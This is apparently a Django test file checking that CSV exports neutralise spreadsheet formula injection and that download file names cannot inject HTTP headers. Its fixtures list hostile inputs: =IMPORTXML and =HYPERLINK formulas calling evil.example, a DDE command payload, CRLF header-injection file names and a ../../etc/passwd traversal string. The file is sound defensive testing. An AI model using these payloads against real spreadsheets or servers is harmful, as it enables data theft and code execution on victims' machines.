"""T26: no cell of a table is a formula, and no name of a file writes a header of its own."""

from __future__ import annotations

import csv
import io
import zipfile
from email.message import Message
from typing import Any

import pytest
from django.http import HttpResponseBase
from django.urls import reverse
from django.utils import timezone

from accounts.clients import bucket_for
from accounts.models import Account
from jobs.exports import all_exports
from jobs.exports.tables import Table
from jobs.models import Batch, Usage
from jobs.results import Fact, Marker, Region, Result
from tests.factories import make_account, make_job, make_user
from tests.jobs.conftest import sandbox_account as sandbox_account
from tests.jobs.export_writing import rows, written
from tests.jobs.scene import Scene, set_scene

FORMULAS = [
    *("=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠A1"),
    *('=HYPERLINK("//evil.example","x")', "=cmd|' /C calc'!A0", '=IMPORTXML("//evil.example",A1)', "=\x00A1"),
    *('"=1+1', '";=1+1', "x\r\n=1+1", "a,=1+1", "a;=1+1", "a\t=1+1", '","=1+1'),
]
BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
NAMES = [
    *('a"; filename="evil.exe', "a\r\nSet-Cookie: x=1", "a\nX: y", "a\x00b", "鼓点; x=1", "a%0d%0aX: y"),
    *("..", "../../etc/passwd", "a\\b", "\u202egnp.exe", "=1+1", '"', "'", ";", "a\u2028b"),
]
TABLES = [key for key, each in all_exports().items() if each.content_type.startswith("text/csv")]


@pytest.fixture
def scene(db: None) -> Scene:
    return set_scene()


def cells_of(content: bytes) -> list[str]:
    """Every cell, read as a spreadsheet does: by commas."""
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


def formulas_in(content: bytes) -> list[str]:
    return [cell for cell in cells_of(content) if cell.startswith(BEGINS)]


def test_a_table_lets_no_text_begin_like_a_formula() -> None:
    """T26"""
    content = Table([FORMULAS, ["plain", -1.5, None, ""]]).content()
    assert formulas_in(content) == ["-1.5"]
    assert [cell.removeprefix("'") for cell in rows(content)[0]] == FORMULAS
    naive = io.StringIO()
    csv.writer(naive).writerow(FORMULAS)
    assert len(formulas_in(naive.getvalue().encode())) == 15, "the harness sees them"


@pytest.mark.parametrize("key", TABLES)
def test_no_export_has_a_formula(key: str) -> None:
    """T26: every format that is a table, a new one included."""
    found = Result(
        markers=tuple(Marker(time=float(n), label=text) for n, text in enumerate(FORMULAS)),
        regions=tuple(Region(start=float(n), end=n + 1.0, label=text) for n, text in enumerate(FORMULAS)),
        facts=(Fact(key="tempo", label="=1", value="=1+1"),),
    )
    for name in FORMULAS:
        assert formulas_in(written(key, found, name=name)) == []
    assert len(TABLES) >= 3


def test_neither_the_list_of_a_batch_nor_the_usage_has_one(scene: Scene, settings: Any) -> None:
    """T26"""
    person = make_user(username="@SUM(A1)")
    account = make_account(scene.owner, name=FORMULAS[0])
    batch = Batch.objects.create(account=account, owner=person, capability="musicBeat", label="=1+1")
    for number, text in enumerate(FORMULAS, 1):
        fields: dict[str, Any] = {"source_name": text.replace("\x00", ""), "tmp_id": text.replace("\x00", "")}
        found = Result(facts=(Fact(key="tempo", label="", value=text.replace("\x00", "")),)).to_json()
        make_job(
            account,
            batch=batch,
            position=number,
            state="COMPLETED",
            result=found,
            source_path=text.replace("\x00", ""),
            ended_at=timezone.now(),
            **fields,
        )
    Usage.objects.create(
        account=account, user=person, capability="=musicBeat", day=timezone.now().date(), calls=1
    )
    answer = scene.alice.get(reverse("jobs:batch_zip", args=[batch.pk]), {"format": "csv"})
    with zipfile.ZipFile(io.BytesIO(body_of(answer))) as archive:
        index = archive.read("index.csv")
    assert formulas_in(index) == []
    assert len(rows(index)) == len(FORMULAS) + 1
    usage = body_of(scene.alice.get(reverse("jobs:usage_csv")))
    assert formulas_in(usage) == []
    assert "'=1+1" in cells_of(usage)


def body_of(answer: Any) -> bytes:
    assert answer.status_code == 200, answer
    return b"".join(answer.streaming_content) if answer.streaming else answer.content


def header_of(answer: HttpResponseBase) -> str:
    """The one header, which a browser would read as one name of a file."""
    assert answer.status_code == 200, answer
    raw = answer.serialize_headers().decode("latin-1")
    names = [line.partition(":")[0] for line in raw.split("\r\n")]
    assert "X" not in names and "Set-Cookie" not in names and "\n" not in raw.replace("\r\n", "")
    told = answer["Content-Disposition"]
    assert told.isprintable() and told.startswith("attachment")
    read = Message()
    read["Content-Disposition"] = told
    names = [name for name, _value in read.get_params(header="content-disposition") or ()]
    assert names == ["attachment", "filename"], told
    return told


@pytest.mark.parametrize("name", NAMES)
def test_a_file_s_name_stays_in_its_header(name: str, scene: Scene) -> None:
    """T26: of a song, a batch and a capability's answer."""
    found = Result(markers=(Marker(time=1.0),)).to_json()
    stored = name.replace("\x00", "")
    batch = Batch.objects.create(
        account=scene.account, owner=scene.owner, capability="musicBeat", label=stored
    )
    job = make_job(
        scene.account,
        batch=batch,
        position=1,
        state="COMPLETED",
        result=found,
        raw_answer={},
        source_name=stored,
        ended_at=timezone.now(),
    )
    for key in all_exports():
        header_of(scene.alice.get(reverse("jobs:job_export", args=[job.pk, key])))
    header_of(scene.alice.get(reverse("jobs:job_raw", args=[job.pk])))
    header_of(scene.alice.get(reverse("jobs:batch_zip", args=[batch.pk]), {"format": "csv"}))


@pytest.mark.parametrize("name", ['a"; filename="evil.exe', "a%0d%0aX: y", "鼓点; x=1", "=1+1", "'", "a;b"])
def test_so_does_that_of_a_file_of_the_bucket(name: str, sandbox_account: Account, client: Any) -> None:
    """T26"""
    client.force_login(sandbox_account.memberships.get().user)
    bucket_for(sandbox_account).put(f"names/{name}.wav", b"RIFF0000WAVE")
    answer = client.get(reverse("library:download", args=[sandbox_account.pk]), {"path": f"names/{name}.wav"})
    body_of(answer)
    header_of(answer)
